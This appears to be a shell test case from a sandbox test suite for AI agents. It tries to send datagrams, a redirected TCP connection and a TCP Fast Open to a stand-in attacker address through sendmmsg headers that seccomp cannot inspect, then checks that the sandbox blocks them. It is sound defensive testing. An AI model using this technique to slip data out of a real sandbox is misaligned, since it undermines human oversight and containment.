# attack: net/broker-sendmmsg
# boundary: network
# profile: agent-net
# modes: root rootless
# requires: probe-slot net
# seeds: 000-network
# what: addresses the seccomp program cannot read, in sendmmsg's message
#   headers: two datagrams from an unconnected UDP socket to the attacker
#   (198.51.100.7:53); the broker's TCP connection to the mirror given the
#   attacker's address; a TCP Fast Open to the attacker
# expect: the datagrams fail (ENETUNREACH: the sandbox's socket is in its
#   own namespace, with no route), the connected TCP socket ignores the
#   address (its bytes go to the mirror), the Fast Open is refused
#   (EOPNOTSUPP) and recorded; the attacker's host sees nothing
# control: outside, the datagrams and the Fast Open reach the attacker
#   (its host logs them)
# if it fails: the network namespace (launcher/core/ns.c), the program's
#   MSG_FASTOPEN rules (compiler/codegen/net_rules.c)

attack() {
	local seen
	net_note
	sbx -- /input/brk sendmmsg "$ADDR_MIRROR" 443 "$ADDR_ATTACKER" 53
	net_sync
	seen=$(net_seen)
	printf '%s\n' "$seen" >"$CASE_T/seen"
	check "the datagrams go nowhere; $(why)" so_has "udp-unconnected ENETUNREACH"
	check "the broker's TCP socket keeps its peer; $(why)" \
		bash -c 'grep -qx "tcp-connect-good ok" "$1" && grep -qx "tcp-with-address ok" "$1"' _ "$SO"
	check "the Fast Open is refused; $(why)" so_has "tcp-fastopen EOPNOTSUPP"
	check "the attacker's host saw nothing: $(grep -E "^net: .* 53\$|^net: (dgram|conn) 53 " "$CASE_T/seen" | head -3)" \
		not grep -qE "^net: .* 53\$|^net: (dgram|conn) 53 " "$CASE_T/seen"
	check "the report has the refused Fast Open" report_has \
		'[.denials.network[] | select(.call == "sendmmsg" and .errno == "EOPNOTSUPP")] | length == 1'
	net_note
	outside -- "$IN/brk" sendmmsg "$ADDR_MIRROR" 443 "$ADDR_ATTACKER" 53
	net_sync
	seen=$(net_seen)
	printf '%s\n' "$seen" >"$CASE_T/seen"
	control "outside, the datagrams leave; $(cwhy)" co_has "udp-unconnected ok"
	control "outside, the attacker's host logs them" \
		grep -q "^net: dgram 53 " "$CASE_T/seen"
}
